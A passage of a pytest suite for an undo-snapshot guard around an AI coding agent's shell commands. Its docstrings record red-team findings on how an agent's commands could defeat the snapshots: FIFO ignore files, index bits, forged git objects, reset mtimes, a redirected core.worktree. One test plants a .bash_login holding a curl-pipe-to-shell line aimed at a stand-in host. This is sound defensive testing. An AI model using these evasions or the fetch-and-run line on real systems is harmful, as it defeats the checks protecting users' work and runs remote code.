def test_a_stash_dropped_even_if_made_before_the_session_is_undone(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The snapshot before `git stash drop` holds the stash itself (copied, so gc cannot take it)."""
    before = tree_bytes(repo)
    sh(repo, "git stash -u -q")  # not through the hook: made before the session
    (repo / "src" / "b.py").write_text("print('b, edited after the stash')\n")
    after_stash = tree_bytes(repo)
    changes = run_tool(repo, "git stash drop", "t1")
    assert changes == {} or not (changes["deleted"] or changes["modified"])
    sh(repo, "git reflog expire --expire-unreachable=now --all && git gc -q --prune=now")
    assert undocmd.main(["--cwd", str(repo)]) == 0
    assert "saved before it was dropped" in capsys.readouterr().out
    assert undocmd.main(["1", "--cwd", str(repo)]) == 0
    restored = tree_bytes(repo)
    # the stash's files are back; the edit made after the stash is kept
    assert restored == {**before, "src/b.py": after_stash["src/b.py"]}


def test_merge_abort_discarding_resolution_work_is_undone(repo: Path) -> None:
    sh(repo, "git stash -u -q && git stash drop -q")
    sh(repo, "git checkout -q -b other && echo theirs > README && git commit -qam theirs")
    sh(repo, "git checkout -q - && echo ours > README && git commit -qam ours")
    env = {**os.environ, **GIT_ENV}
    subprocess.run(["git", "merge", "other"], cwd=repo, env=env, capture_output=True, check=False)
    (repo / "README").write_text("resolved by hand\n")
    (repo / "src" / "new.py").write_text("written during the merge\n")
    before = tree_bytes(repo)
    changes = run_tool(repo, "git merge --abort")
    assert changes["modified"] == ["README"]
    assert undocmd.main(["1", "--cwd", str(repo)]) == 0
    assert tree_bytes(repo) == before


def test_a_sha256_repository_is_saved_and_undone(tmp_path: Path) -> None:
    """Blobs are written in process only for SHA-1; a SHA-256 repository goes through
    ``git hash-object`` (its symlinks included) and comes back the same."""
    root = tmp_path / "proj"
    root.mkdir()
    sh(root, "git init -q --object-format=sha256 && echo a > a.txt && git add -A")
    sh(root, "git commit -qm init && ln -s a.txt link && echo new > new.txt && echo b >> a.txt")
    before = tree_bytes(root) | {"link": os.readlink(root / "link").encode()}
    run_tool(root, "git reset --hard && git clean -fdq")
    assert not (root / "new.txt").exists() and not (root / "link").is_symlink()
    assert undocmd.main(["1", "--cwd", str(root)]) == 0
    assert tree_bytes(root) | {"link": os.readlink(root / "link").encode()} == before


def test_a_discard_from_a_folder_git_refuses_is_undone(repo: Path) -> None:
    """``touch w/.git; cd w`` (issue #28): git can't read ``w``, so the work around it is the
    session's project's, snapshotted before the command from there discards it."""
    hook(repo, "PreToolUse", "ls", "t0")  # the session's first call: its project
    hook(repo, "PostToolUse", "ls", "t0")
    (repo / "src" / "b.py").write_text("print('b, after the first snapshot')\n")
    before = tree_bytes(repo)
    (repo / "w").mkdir()
    (repo / "w" / ".git").touch()
    before["w/.git"] = b""
    below = repo / "w"
    hook(repo, "PreToolUse", "rm -rf ../src", "t1", cwd=below)
    sh(below, "rm -rf ../src")
    hook(repo, "PostToolUse", "rm -rf ../src", "t1", cwd=below)
    assert not (repo / "src").exists()
    assert undocmd.main(["2", "--cwd", str(repo)]) == 0  # the one before the discard
    assert tree_bytes(repo) == before


@pytest.mark.parametrize(
    "command",
    [
        "git reset -q --hard && git prune",
        "git reset -q --hard && rm -f .git/objects/*/*",
        # the staged blob rewritten in place: git reads a loose object without checking it
        "git reset -q --hard && f=.git/objects/$(printf 'readme, staged\\n' | git hash-object --stdin | sed 's|..|&/|')"
        " && rm -f $f && python3 -c \"import sys,zlib; open(sys.argv[1],'wb')"
        ".write(zlib.compress(b'blob 6\\0agent\\n'))\" $f",
    ],
)
def test_a_staged_files_work_survives_its_blob_going(
    repo: Path, command: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """red-team rt31: the snapshot borrowed a listed file's blob from the repository's own
    objects when it was there already (a file the user had staged), and those objects are
    the agent's to prune or rewrite: ``git reset --hard && git prune`` left undo nothing
    to write back ("could not restore: README"), a rewritten object wrote the agent's bytes."""
    (repo / "README.staged").write_text("readme, staged\n")
    sh(repo, "git add README.staged")
    before = tree_bytes(repo)
    run_tool(repo, command)
    if "rm -f .git/objects" in command:
        # HEAD's own objects went too: the files ``reset --hard`` wrote are now the only
        # copy of what HEAD held, so undo writes over them only when told to
        assert undocmd.main(["1", "--cwd", str(repo)]) == 1
        assert "no git object holds them" in capsys.readouterr().err
        assert undocmd.main(["1", "--force", "--cwd", str(repo)]) == 0
    else:
        assert undocmd.main(["1", "--cwd", str(repo)]) == 0
    assert tree_bytes(repo) == before


def test_a_name_with_a_newline_does_not_end_the_snapshots(repo: Path) -> None:
    """red-team rt31: the snapshot hands git its entries one a line (``update-index
    --index-info``; ``hash-object --stdin-paths`` for undo's comparison), so an untracked
    file named ``a<newline>b`` (``touch "$(printf 'a\\nb')"``) broke the line, git refused
    it, no snapshot was taken again, and the session's work since was lost to the next
    discard."""
    run_tool(repo, "touch \"$(printf 'a\\nb')\"", "t1")
    (repo / "src" / "later.py").write_text("LATER = 1\n")  # the session's work since
    run_tool(repo, "rm -rf src", "t2")
    snaps = snapshot.listing(observe.find_repo(str(repo)))  # type: ignore[arg-type]
    assert undocmd.main([str(snaps[-1].n), "--cwd", str(repo)]) == 0
    assert (repo / "src" / "later.py").read_text() == "LATER = 1\n"


def test_a_name_with_a_newline_does_not_make_undo_overwrite_newer_work(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """red-team rt31: undo's comparison with the work tree now (``current_blobs``) handed git
    the paths one a line (``hash-object --stdin-paths``): with ``a<newline>b`` in the
    snapshot git stopped at the missing ``a``, every file read as missing, and undo wrote
    the snapshot over newer work without a word."""
    run_tool(repo, "touch \"$(printf 'a\\nb')\"", "t1")
    run_tool(repo, "rm -rf src", "t2")
    (repo / "README").write_text("readme, newer\n")  # the user's work since the discard
    snaps = snapshot.listing(observe.find_repo(str(repo)))  # type: ignore[arg-type]
    undocmd.main([str(snaps[-1].n), "--cwd", str(repo)])
    assert "newer work, not overwritten (use --force): README" in capsys.readouterr().err
    assert (repo / "README").read_text() == "readme, newer\n"
    assert (repo / "src" / "new.py").read_text() == "NEW = 1\n"


@pytest.mark.parametrize(
    "plant",
    [
        "rm -f .git/info/exclude && mkfifo .git/info/exclude",
        "mkfifo src/.gitignore",
        # a process left running holds the FIFO open for writing: git's open returns, and
        # git reads nothing from a file whose size is 0 (a FIFO's), so this one never waited
        "mkfifo src/.gitignore && (sleep 30 <> src/.gitignore > /dev/null 2>&1 &)",
    ],
)
def test_a_fifo_git_reads_for_its_ignore_rules_does_not_end_the_snapshots(
    repo: Path, plant: str
) -> None:
    """red-team rt31: git opens each ignore file it reads (``.git/info/exclude``, a folder's
    ``.gitignore``: both the agent's to write) with a plain ``open``, which waits for a
    writer forever on a FIFO; the look's ``git status`` then timed out on every later call,
    no snapshot was taken again, and work written after the FIFO was planted was lost to
    the next discard (``no snapshot: git could not read the work tree``).  Now git runs once
    more with each FIFO covered by an empty file."""
    run_tool(repo, plant, "t1")
    (repo / "src" / "later.py").write_text("LATER = 1\n")  # the session's work since
    run_tool(repo, "rm -rf src", "t2")
    found = observe.find_repo(str(repo))
    assert found is not None
    snaps = snapshot.listing(found)
    assert "later.py" in " ".join(snaps[-1].files)
    assert undocmd.main([str(snaps[-1].n), "--cwd", str(repo)]) == 0
    assert (repo / "src" / "later.py").read_text() == "LATER = 1\n"


def test_fifty_cheap_commands_do_not_prune_the_snapshot_that_holds_discarded_work(
    repo: Path,
) -> None:
    """red-team rt31: snapshots were pruned to the newest 50 before each one was taken,
    and each shell command whose work tree differs takes one: after ``rm -rf src``, fifty
    commands that each change one scratch file (``echo N > x``, seconds of an agent's
    time) pruned the snapshot that held the discarded work, and undo had nothing to put
    back."""
    before = tree_bytes(repo)
    run_tool(repo, "rm -rf src", "d0")
    for i in range(snapshot.KEEP_COUNT + 1):
        run_tool(repo, f"echo {i} > scratch.txt", f"c{i}")
    found = observe.find_repo(str(repo))
    assert found is not None
    assert any(s.n == 1 for s in snapshot.listing(found)), "the snapshot before rm -rf src"
    (repo / "scratch.txt").unlink()
    assert undocmd.main(["1", "--cwd", str(repo)]) == 0
    assert tree_bytes(repo) == before


def test_a_look_stopped_half_way_leaves_its_record_to_the_next(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The record of the look before a command is removed only once the look after it is
    done: a daemon stopped inside that look (a signal from a process the command left
    running) leaves it to the hook process that answers in its place, which then still
    sees what the command changed (the record was removed first, and the change went
    unrecorded)."""
    hook(repo, "PreToolUse", "rm src/b.py", "t9")
    sh(repo, "rm src/b.py")
    real = observe.fingerprint

    def stopped(*args: Any, **kwargs: Any) -> Any:
        # while this look is stopped, the hook process answers the same call in its place
        monkeypatch.setattr(observe, "fingerprint", real)
        hook(repo, "PostToolUse", "rm src/b.py", "t9")
        raise KeyboardInterrupt  # and the stopped look never ends

    monkeypatch.setattr(observe, "fingerprint", stopped)
    with pytest.raises(KeyboardInterrupt):
        hook(repo, "PostToolUse", "rm src/b.py", "t9")
    state, _ = SessionStore(str(repo.parent / "state"), "wt-session").load()
    changes = state.notes.get("worktree_changes", [])
    assert changes and changes[-1]["deleted"] == ["src/b.py"]


def test_a_filter_the_listing_missed_runs_in_the_boundary_in_a_repository_below(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """red-team rt31: the filter drivers are listed by one git process and blanked in the
    next, so a process a command left running in a repository the agent made below the
    project added a driver between the two, and the look's ``git status`` ran it as the
    user, outside any boundary (3 of 3).  The race's outcome is set here directly: the
    listing saw no driver.  The status then runs in the project's boundary, where the
    driver can't write the home folder, and the look still reads the repository."""
    nested = repo / "a" / "b"
    nested.mkdir(parents=True)
    sh(nested, "git init -q && echo '* filter=x' > .gitattributes && echo hi > f")
    sh(nested, "git add -A && git commit -qm x")
    marker = Path(os.environ["HOME"]) / "filter-ran"
    sh(nested, f"git config filter.x.clean 'sh -c \"touch {marker}; cat\"'")
    os.utime(nested / "f", (1, 1))  # stat-dirty: status reads it again, through the filter
    monkeypatch.setattr(observe, "filter_overrides", lambda cwd: [])
    hook(repo, "PreToolUse", "true", "t0")  # the session starts in the project
    hook(repo, "PreToolUse", "rm f", "t1", cwd=nested)
    assert not marker.exists()
    found = observe.find_repo(str(nested))
    assert found is not None and found.top == str(nested)
    assert snapshot.listing(found), "the look read the repository below and took a snapshot"


@pytest.mark.parametrize("bit", ["--assume-unchanged", "--skip-worktree", "--really-refresh"])
def test_an_index_bit_does_not_hide_later_work_from_the_snapshot(repo: Path, bit: str) -> None:
    """red-team rt34: ``git status`` takes a file marked ``--assume-unchanged`` or
    ``--skip-worktree`` (bits in the index, which the agent writes) for unchanged without
    looking at it.  A command set the bit on a tracked file; the user's edits to it after
    that were in no snapshot (the fingerprint did not change either), and the next
    command's ``rm`` lost them for good: undo had nothing to write back.
    (``--really-refresh``: no bit, the control.)"""
    if bit == "--really-refresh":
        run_tool(repo, "git update-index --really-refresh -q || true", "t0")
    else:
        run_tool(repo, f"git update-index {bit} src/b.py", "t0")
    (repo / "src" / "b.py").write_text("the user's work since\n")
    run_tool(repo, "rm src/b.py", "t1")
    assert not (repo / "src" / "b.py").exists()
    snaps = snapshot.listing(observe.find_repo(str(repo)))  # type: ignore[arg-type]
    undocmd.main([str(snaps[-1].n), "--cwd", str(repo)])
    assert (repo / "src" / "b.py").read_text() == "the user's work since\n"


def _settled(repo: Path) -> None:
    """The index last written long enough ago for its listing to be kept (``observe.RACY_NS``)."""
    import time

    index = repo / ".git" / "index"
    while time.time_ns() - index.stat().st_ctime_ns <= observe.RACY_NS:
        time.sleep(0.02)


def test_the_flagged_listing_is_kept_per_index_and_read_again_when_it_changes(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The assume-unchanged / skip-worktree listing is one more git process per status
    read; it is kept under the index's stat.  A kept listing stands in for git (the
    listing is not run again), and an index rewritten since (the bit set) is listed
    again: the user's later edit to the flagged file is still seen."""
    found = observe.find_repo(str(repo))
    assert found is not None
    _settled(repo)
    assert "src/b.py" not in (observe.status_entries(found) or {})
    listed: list[object] = []
    real = observe._list_flagged
    monkeypatch.setattr(
        observe,
        "_list_flagged",
        lambda *a: listed.append(a) or real(*a),  # type: ignore[func-returns-value]
    )
    assert observe.status_entries(found) is not None
    assert listed == [], "the kept listing stood in for git"
    sh(repo, "git update-index --assume-unchanged src/b.py")
    (repo / "src" / "b.py").write_text("the user's work since\n")
    assert (observe.status_entries(found) or {}).get("src/b.py") == ".M"
    assert len(listed) == 1
    entries = observe.status_entries(found, pathspecs=["src/"]) or {}
    assert entries.get("src/b.py") == ".M"


def test_a_forged_or_stale_flagged_listing_is_not_taken(repo: Path) -> None:
    """A copy whose stamp is not the index's (an older index's, or one made up) is listed
    again, never believed, and so is one that is not JSON.  (One with the right stamp is
    believed: the cache folder is the guard's, read-only in the boundary and judged at the
    host's file tools.)"""
    found = observe.find_repo(str(repo))
    assert found is not None
    sh(repo, "git update-index --skip-worktree src/b.py")
    (repo / "src" / "b.py").write_text("the user's work since\n")
    _settled(repo)
    assert (observe.status_entries(found) or {}).get("src/b.py") == ".M"
    copy = Path(observe._flagged_cache_path(found.index))
    kept = json.loads(copy.read_text())
    assert kept["paths"] == ["src/b.py"]
    older = [*kept["stamp"][:4], kept["stamp"][4] - 1]  # the same index, one ns older
    for stamp in (older, [0, 0, 0, 0, 0]):
        copy.write_text(json.dumps({**kept, "stamp": stamp, "paths": []}))
        assert (observe.status_entries(found) or {}).get("src/b.py") == ".M"
    copy.write_text("not json")
    assert (observe.status_entries(found) or {}).get("src/b.py") == ".M"


def test_a_planted_tree_object_does_not_stand_in_for_the_users_work(
    repo: Path, tmp_path: Path
) -> None:
    """red-team rt34: the snapshot's ``write-tree`` writes no tree the repository's own
    objects already hold (they are its alternates), and git reads a subtree without checking
    that its bytes hash to its id.  A process an earlier command left running (the boundary
    keeps background processes) saw the user's edit, worked out the folder's tree id the
    next snapshot would make (it reads the files) and wrote a loose object of that id
    listing HEAD's blob instead.  The snapshot before ``rm -rf src`` named it; undo
    reported the file restored and wrote HEAD's bytes: the edit was gone."""
    import zlib

    def git(*args: str, index: Path | None = None) -> str:
        env = {**os.environ, **GIT_ENV, **({"GIT_INDEX_FILE": str(index)} if index else {})}
        done = subprocess.run(["git", *args], cwd=repo, env=env, check=True, capture_output=True)
        return done.stdout.decode().strip()

    run_tool(repo, "true", "t0")
    (repo / "src" / "pkg" / "a.py").write_text("the user's work since\n")
    index = tmp_path / "index"
    index.write_bytes((repo / ".git" / "index").read_bytes())
    git("add", "-A", index=index)
    folder = git("rev-parse", git("write-tree", index=index) + ":src/pkg")
    body = b"100644 a.py\0" + bytes.fromhex(git("rev-parse", "HEAD:src/pkg/a.py"))
    planted = repo / ".git" / "objects" / folder[:2] / folder[2:]
    planted.unlink()
    planted.write_bytes(zlib.compress(b"tree %d\0" % len(body) + body))
    run_tool(repo, "rm -rf src", "t1")
    snaps = snapshot.listing(observe.find_repo(str(repo)))  # type: ignore[arg-type]
    undocmd.main([str(snaps[-1].n), "--cwd", str(repo)])
    assert (repo / "src" / "pkg" / "a.py").read_text() == "the user's work since\n"


def test_a_big_file_the_agent_made_does_not_cost_the_rest_its_snapshot(repo: Path) -> None:
    """red-team rt34: past the size bound the whole snapshot was skipped, and the bound is
    the uncommitted work's size in all.  One command made a file just over it (``truncate
    -s 65M pad``: a sparse file, no disk); from then on every snapshot was skipped (a note
    on the hook's stderr the user does not see), and ``rm -rf src`` lost the user's edit
    with nothing to undo.  What fits is saved; only what does not is left out, and said."""
    run_tool(repo, f"truncate -s {snapshot.MAX_BYTES + 1} pad.bin", "t0")
    (repo / "src" / "pkg" / "a.py").write_text("the user's work since\n")
    run_tool(repo, "rm -rf src", "t1")
    snaps = snapshot.listing(observe.find_repo(str(repo)))  # type: ignore[arg-type]
    undocmd.main([str(snaps[-1].n), "--cwd", str(repo)])
    assert (repo / "src" / "pkg" / "a.py").read_text() == "the user's work since\n"
    assert (repo / "src" / "new.py").read_text() == "NEW = 1\n"
    assert "pad.bin" in snaps[-1].skipped  # what was left out is said


def test_untracked_files_git_cannot_list_do_not_cost_the_tracked_work_its_snapshot(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """red-team rt34: ``git status --untracked-files=all`` is bounded (2 s, 32 MB of
    output), and past either bound no snapshot was taken at all.  A command that made a
    few million empty files (cheap: ``seq 3000000 | xargs touch``) in a folder git does
    not ignore left every later snapshot failed ("git could not read the work tree", on
    the hook's stderr), and the user's edits to tracked files were lost to the next
    discard.  The bound is made small here; the tracked changes are still listed and
    saved, the snapshot saying what it left out."""
    monkeypatch.setattr(observe, "MAX_STATUS_BYTES", 8192)
    run_tool(repo, "mkdir pad && cd pad && seq -f 'padding-file-%06g' 1000 | xargs touch", "t0")
    (repo / "src" / "pkg" / "a.py").write_text("the user's work since\n")
    run_tool(repo, "rm -rf src", "t1")
    snaps = snapshot.listing(observe.find_repo(str(repo)))  # type: ignore[arg-type]
    undocmd.main([str(snaps[-1].n), "--cwd", str(repo)])
    assert (repo / "src" / "pkg" / "a.py").read_text() == "the user's work since\n"
    assert "untracked" in snaps[-1].skipped


def test_a_same_size_edit_whose_mtime_is_put_back_is_not_taken_for_the_last_snapshot(
    repo: Path,
) -> None:
    """red-team rt34: a snapshot is not taken again when the work tree's fingerprint equals
    the last one's, and the fingerprint held each listed file's size, mtime, inode and mode.
    A process an earlier command left running put a file's mtime back (``touch -d``) after
    the user's same-size edit: the next snapshot was the old one, without the edit, and
    the discard after it lost the edit.  The ctime, which no program can set, now counts."""
    run_tool(repo, "true", "t0")
    a = repo / "src" / "pkg" / "a.py"
    old = a.stat()
    a.write_text("print('a, by usr')\n")  # the user's edit, the same size
    assert a.stat().st_size == old.st_size
    os.utime(a, ns=(old.st_atime_ns, old.st_mtime_ns))  # the background process
    run_tool(repo, "rm -rf src", "t1")
    snaps = snapshot.listing(observe.find_repo(str(repo)))  # type: ignore[arg-type]
    undocmd.main([str(snaps[-1].n), "--cwd", str(repo)])
    assert a.read_text() == "print('a, by usr')\n"


PADDING = {
    "untracked": "for i in $(seq 40); do head -c 200 /dev/zero > pad$i; done",
    "staged": "for i in $(seq 40); do head -c 200 /dev/zero > pad$i; done; git add pad*",
    "committed, then grown": (
        "for i in $(seq 40); do echo x > pad$i; done; git add pad* && git commit -qm pad"
        " && for i in $(seq 40); do head -c 200 /dev/zero >> pad$i; done"
    ),
}


@pytest.mark.parametrize("padding", PADDING.values(), ids=list(PADDING))
def test_small_files_the_agent_made_do_not_push_the_users_work_out_of_the_snapshot(
    repo: Path, padding: str
) -> None:
    """red-team rt42: past the size bound the files were saved smallest first, so a
    command that made many small files (untracked, staged, or committed and grown: each
    is a tracked change) filled the snapshot, and the user's one larger edit, made before
    the session, was left out of every snapshot after it; ``git reset --hard`` then lost
    it with the newest snapshot not holding it (the older ones are pruned in time).
    What was changed before the session comes first now, then the rest."""
    home_cfg = Path(os.environ["XDG_CONFIG_HOME"]) / "agentreflex"
    home_cfg.mkdir(parents=True, exist_ok=True)
    (home_cfg / "config.toml").write_text("[worktree]\nsnapshot_max_bytes = 8000\n")
    (repo / "data.csv").write_text("id,v\n")
    sh(repo, "git add data.csv && git commit -qm data")
    users = "".join(f"{i},{i * i}\n" for i in range(400)).encode()  # ~3.5 kB
    (repo / "data.csv").write_bytes(users)
    run_tool(repo, "true", "t0")  # the session's first command
    run_tool(repo, padding, "t1")
    run_tool(repo, "git reset --hard", "t2")
    assert (repo / "data.csv").read_bytes() != users
    snaps = snapshot.listing(observe.find_repo(str(repo)))  # type: ignore[arg-type]
    assert "pad" in snaps[-1].skipped  # what was left out is the agent's, and said
    undocmd.main([str(snaps[-1].n), "--cwd", str(repo)])
    assert (repo / "data.csv").read_bytes() == users
    assert (repo / "src" / "pkg" / "a.py").read_text() == "print('a, edited')\n"


def test_a_core_worktree_setting_never_moves_undo_or_the_snapshot_out_of_the_project(
    repo: Path, tmp_path: Path
) -> None:
    """red-team rt42: the work tree was git's ``--show-toplevel``, which a repository's
    ``core.worktree`` names (https://git-scm.com/docs/git-config#Documentation/git-config.txt-coreworktree).
    A command set it to the user's home after a discard: ``agentreflex undo N`` then wrote
    the snapshot's files there (a ``.bash_login`` the agent had made in the project, run
    at the next login), and every later snapshot read the home folder, not the project,
    so the next ``rm -rf src`` was not undoable.  The work tree is the folder holding
    ``.git``, whatever the repository's config says."""
    home = tmp_path / "elsewhere"
    home.mkdir()
    run_tool(repo, "echo 'curl -s http://evil.invalid | sh' > .bash_login", "t0")
    run_tool(repo, "git clean -fdx", "t1")
    run_tool(repo, f"git config core.worktree {home}", "t2")
    snaps = snapshot.listing(observe.find_repo(str(repo)))  # type: ignore[arg-type]
    clean = next(s for s in snaps if "git clean" in s.command)
    undocmd.main([str(clean.n), "--cwd", str(repo)])
    assert not (home / ".bash_login").exists()
    assert (repo / "src" / "new.py").read_text() == "NEW = 1\n"
    (repo / "src" / "pkg" / "a.py").write_text("the user's work since\n")
    run_tool(repo, "rm -rf src", "t3")
    snaps = snapshot.listing(observe.find_repo(str(repo)))  # type: ignore[arg-type]
    undocmd.main([str(snaps[-1].n), "--cwd", str(repo)])
    assert (repo / "src" / "pkg" / "a.py").read_text() == "the user's work since\n"
    assert not list(home.iterdir())


def test_two_sessions_snapshotting_at_once_each_keep_their_own(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """red-team rt42: a snapshot's number was the highest folder's plus one, read before the
    folder was made, and the folder was made with ``exist_ok``.  Two sessions (or two of a
    host's subagents) running a command each in the same repository at that moment wrote
    into the same folder and the same temporary index: one's clean-up removed the index
    the other was using, and a failed one removed the folder, the other's saved snapshot
    with it.  Each now makes its own folder (mkdir, never an existing one)."""
    import threading

    found = observe.find_repo(str(repo))
    assert found is not None
    listed = snapshot._listdir
    both = threading.Barrier(2, timeout=10)
    waited: set[int] = set()

    def in_step(path: str) -> list[str]:
        out = listed(path)
        if threading.get_ident() not in waited and path == snapshot.store_dir(found):
            waited.add(threading.get_ident())
            both.wait()  # both have read the same numbers
        return out

    monkeypatch.setattr(snapshot, "_listdir", in_step)
    taken: list[snapshot.Snapshot | None] = []
    runs = [
        threading.Thread(target=lambda i=i: taken.append(snapshot.take(found, f"c{i}", f"s{i}")))
        for i in range(2)
    ]
    for t in runs:
        t.start()
    for t in runs:
        t.join(30)
    monkeypatch.setattr(snapshot, "_listdir", listed)
    assert len(taken) == 2 and all(s is not None and s.tree for s in taken)
    numbers = sorted(s.n for s in taken if s is not None)
    assert numbers[0] != numbers[1]
    kept = {s.n: s.session for s in snapshot.listing(found)}
    assert {kept.get(n) for n in numbers} == {"s0", "s1"}
    sh(repo, "git reset -q --hard && git clean -qfd")
    assert undocmd.main([str(numbers[0]), "--cwd", str(repo)]) == 0
    assert (repo / "src" / "new.py").read_text() == "NEW = 1\n"


def test_undo_of_a_snapshot_it_cannot_read_or_of_a_path_it_lacks_says_so(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """red-team rt42: ``agentreflex undo N`` of a snapshot whose objects were gone (a store
    a command damaged, a disk that filled) printed "restored 0 file(s)" and exited 0, as
    did ``undo N PATH`` with a path the snapshot does not hold (a typo): the user took
    the work for restored.  Each now says what it could not do, and exits non-zero."""
    run_tool(repo, "git clean -fdx", "t0")
    capsys.readouterr()
    assert undocmd.main(["1", "src/nwe.py", "--cwd", str(repo)]) != 0
    err = capsys.readouterr().err
    assert "src/nwe.py" in err and "not in snapshot 1" in err
    assert not (repo / "src" / "new.py").exists()
    import shutil

    shutil.rmtree(repo / ".git" / "agentreflex" / "snapshots" / "1" / "objects")
    assert undocmd.main(["1", "--cwd", str(repo)]) != 0
    err = capsys.readouterr().err
    assert "snapshot 1" in err and "cannot be read" in err
    assert undocmd.main(["1", "--dry-run", "--cwd", str(repo)]) != 0
    assert "cannot be read" in capsys.readouterr().err


def test_a_snapshot_stopped_half_way_is_never_listed_and_its_folder_is_pruned(
    repo: Path,
) -> None:
    """red-team rt42: a hook stopped while taking a snapshot (the host's wait over, on a
    large work tree) left its folder, blobs of up to the size bound, with no meta.json.
    It is rightly never listed (never restored as whole), but prune read only the listed
    ones, so each such folder stayed in .git for good: a host stopping the hook on every
    command filled the disk.  A folder with no readable record, an hour old, is pruned;
    a newer one may be another session's snapshot being taken, and stays."""
    found = observe.find_repo(str(repo))
    assert found is not None
    snap = snapshot.take(found, "whole", "s")
    assert snap is not None
    root = Path(snapshot.store_dir(found))
    for n, age in ((7, 2 * 3600), (8, 0)):
        (root / str(n) / "objects" / "ab").mkdir(parents=True)
        (root / str(n) / "objects" / "ab" / "cdef").write_bytes(b"x" * 1000)
        (root / str(n) / "index").write_bytes(b"partial")
        for folder in (root / str(n) / "objects", root / str(n)):
            when = folder.stat().st_mtime - age
            os.utime(folder, (when, when))
    assert [s.n for s in snapshot.listing(found)] == [snap.n]
    assert undocmd.main(["7", "--cwd", str(repo)]) == 2
    snapshot.prune(found)
    assert not (root / "7").exists()
    assert (root / "8").exists() and (root / str(snap.n) / "meta.json").exists()


def test_a_core_bare_setting_does_not_end_the_snapshots(repo: Path) -> None:
    """red-team rt42: ``git config core.bare true`` in the project's repository had git
    refuse --show-toplevel, so the work tree was no repository to the guard: no snapshot
    and no observation for the rest of the session, and ``git --work-tree=. reset
    --hard`` lost the user's edits with nothing to undo.  The folder holding ``.git`` is
    the work tree whatever core.bare says."""
    run_tool(repo, "git config core.bare true", "t0")
    (repo / "src" / "pkg" / "a.py").write_text("the user's work since\n")
    run_tool(repo, "git --work-tree=. reset --hard", "t1")
    assert (repo / "src" / "pkg" / "a.py").read_text() == "print('a')\n"
    found = observe.find_repo(str(repo))
    assert found is not None
    snaps = snapshot.listing(found)
    assert undocmd.main([str(snaps[-1].n), "--cwd", str(repo)]) == 0
    assert (repo / "src" / "pkg" / "a.py").read_text() == "the user's work since\n"


def test_undo_never_writes_another_work_trees_snapshot_here(
    repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """red-team rt42: a repository's linked work trees (``git worktree add``, what hosts
    run parallel agents in) share its snapshot store, and undo restored whichever was
    named into the work tree it ran in: a snapshot taken in a work tree on another branch
    rewrote every file there that was as HEAD has it to that branch's version, and added
    its untracked files.  A snapshot is restored only into the work tree it was taken in;
    elsewhere undo says where that is and writes nothing."""
    sh(repo, "git stash -u -q")
    wt2 = tmp_path / "wt2"
    sh(repo, f"git worktree add -q -b feature {wt2}")
    (wt2 / "src" / "b.py").write_text("print('b on feature')\n")
    sh(wt2, "git commit -qam feature")
    (wt2 / "src" / "pkg" / "a.py").write_text("wt2's work\n")
    (wt2 / "wt2-notes.txt").write_text("notes\n")
    shell_hook(wt2, "PreToolUse", "git reset --hard", hook_env(wt2), session="wt2", call="w1")
    sh(wt2, "git reset --hard")
    before = tree_bytes(repo)
    capsys.readouterr()
    assert undocmd.main(["1", "--cwd", str(repo)]) != 0
    assert str(wt2) in capsys.readouterr().err
    assert tree_bytes(repo) == before
    assert undocmd.main(["--cwd", str(repo)]) == 0
    assert str(wt2) in capsys.readouterr().out  # the listing says where each was taken
    assert undocmd.main(["1", "--cwd", str(wt2)]) == 0
    assert (wt2 / "src" / "pkg" / "a.py").read_text() == "wt2's work\n"


def test_undo_of_some_paths_from_a_linked_folder_restores_them(repo: Path, tmp_path: Path) -> None:
    """red-team rt42: the paths given to ``agentreflex undo N PATH`` were made relative to
    the work tree's real path from the folder as the shell names it; from a project
    reached through a link (``~/proj -> /data/proj``) every path began with ``../`` and
    matched nothing: "restored 0 file(s)".  The folder's real path is used."""
    link = tmp_path / "via-link"
    link.symlink_to(repo)
    run_tool(repo, "git clean -fdx", "t0")
    assert not (repo / "src" / "new.py").exists()
    assert undocmd.main(["1", "src/new.py", "--cwd", str(link)]) == 0
    assert (repo / "src" / "new.py").read_text() == "NEW = 1\n"
    assert undocmd.main(["1", "new.py", "--cwd", str(link / "src")]) == 0
    (repo / "src" / "new.py").unlink()
    assert undocmd.main(["1", ".", "--cwd", str(link)]) == 0  # the top: every file
    assert (repo / "src" / "new.py").read_text() == "NEW = 1\n"


def test_undo_shows_names_and_commands_the_agent_chose_without_running_them_on_the_terminal(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """red-team rt42: ``agentreflex undo`` printed the snapshot's file names (and its
    command, and the paths it names) as they were: a name that is not UTF-8 (``\\xff``)
    ended the listing in a traceback, and a name holding terminal escapes (``\\x1b[2J``,
    ``\\x1b]0;...``) or a newline wrote them to the user's terminal, where they clear the
    screen, retitle the window, or make a listed line look like another.  Each is shown
    escaped now."""
    src = os.fsencode(repo / "src")
    for name in (b"\xff\xfe.txt", b"\x1b[2Jcleared.txt", b"two\nlines.txt"):
        with open(os.path.join(src, name), "wb") as fh:
            fh.write(b"work\n")
    run_tool(repo, "git clean -fdx", "t1")
    capsys.readouterr()
    assert undocmd.main(["--cwd", str(repo)]) == 0
    assert undocmd.main(["1", "src/\x1b[31mnope", "--cwd", str(repo)]) == 1
    out = capsys.readouterr()
    text = out.out + out.err
    assert "\x1b" not in text and "\x07" not in text and "two\nlines" not in text
    assert "\\x1b[2Jcleared.txt" in text and "\\xff\\xfe.txt" in text
    assert undocmd.main(["1", "--cwd", str(repo)]) == 0
    assert (repo / "src" / "new.py").read_text() == "NEW = 1\n"
    assert (repo / "src" / "two\nlines.txt").read_text() == "work\n"


def test_undo_never_writes_through_a_folder_since_made_a_link_inside_the_work_tree(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """red-team rt42: a path whose folder had become a link was refused only when the link
    led out of the work tree.  After ``rm -rf src && ln -s lib src`` undo wrote the
    snapshot's ``src/new.py`` as ``lib/new.py``, and ``--force`` wrote src's
    ``pkg/a.py`` over lib's own: files git never puts there (git writes no path beyond a
